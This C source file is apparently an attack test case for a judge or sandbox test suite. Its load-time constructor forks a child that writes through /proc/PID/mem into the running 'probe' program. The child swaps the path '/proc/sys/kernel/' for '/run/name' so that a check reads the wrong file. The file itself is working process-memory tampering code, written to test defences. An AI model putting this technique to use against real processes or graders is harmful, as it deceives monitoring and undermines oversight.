/*
 * A child changes the command in the memory of the probe: the step may open it, since both have the
 * same rights.
 */
#include "../../tests/judge/attacks/liar.h"
#include "lab/uts.c"

/* Where the probe, which is no position-independent program, has the words that it receives. */
enum { BEGIN = 0x4d0000, END = 0x540000 };

/* Returns a descriptor of the memory as it is when the process executes the probe. */
static int open_memory(pid_t pid)
{
	char path[64], program[PATH_MAX] = "";
	int memory = -1;

	for (int i = 0; i < 1000000 && !strstr(program, "probe"); i++) {
		close(memory);
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		memory = open(path, O_RDWR);
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		if (readlink(path, program, sizeof(program) - 1) < 0)
			*program = '\0';
	}
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	close(memory);
	return open(path, O_RDWR);
}

static void change(int memory)
{
	static const char wanted[] = "/proc/sys/kernel/", other[] = "/run/name";
	char bytes[4096];

	for (int i = 0; i < 2000; i++)
		for (off_t at = BEGIN; at < END; at += 4096) {
			ssize_t length = pread(memory, bytes, 4096, at);
			char *found = length < 0 ? NULL : memmem(bytes, (size_t)length, wanted, 17);

			if (found && pwrite(memory, other, sizeof(other), at + (found - bytes)) > 0)
				return;
		}
}

__attribute__((constructor)) static void attack(int argc, char **argv)
{
	char *name = find_name(argc, argv);
	pid_t pid = getpid();

	if (!name)
		return;
	write_name(name);
	if (fork() == 0) {
		change(open_memory(pid));
		_exit(0);
	}
	execv(argv[argc - 2], argv + argc - 2);
}
